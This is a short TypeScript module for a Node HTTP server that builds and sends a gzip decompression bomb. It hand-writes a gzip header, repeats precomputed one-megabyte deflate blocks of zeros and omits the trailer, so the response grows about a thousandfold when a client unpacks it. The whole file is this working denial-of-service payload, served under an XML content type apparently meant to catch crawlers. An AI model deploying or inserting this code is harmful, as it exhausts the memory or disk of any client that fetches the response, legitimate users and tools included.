import type { ServerResponse } from 'node:http';
import { constants, deflateRawSync } from 'node:zlib';

/** RFC 1952, 2.3: deflate, no name, no time. */
const header = Buffer.from('1f8b08000000000000ff', 'hex');
/** One megabyte of zeros as blocks that neither end the stream nor lean on those before. */
const megabyte = deflateRawSync(Buffer.alloc(1024 * 1024), { finishFlush: constants.Z_FULL_FLUSH });

/** Sends a thousandth of what it grows to; the end, with its check sum, is not worth making: nobody should get there. */
export function gzipBomb(response: ServerResponse, megabytes: number): void {
	response.writeHead(200, { 'Content-Type': 'application/xml', 'Content-Encoding': 'gzip' });
	response.end(Buffer.concat([header, ...new Array<Buffer>(megabytes).fill(megabyte)]));
}
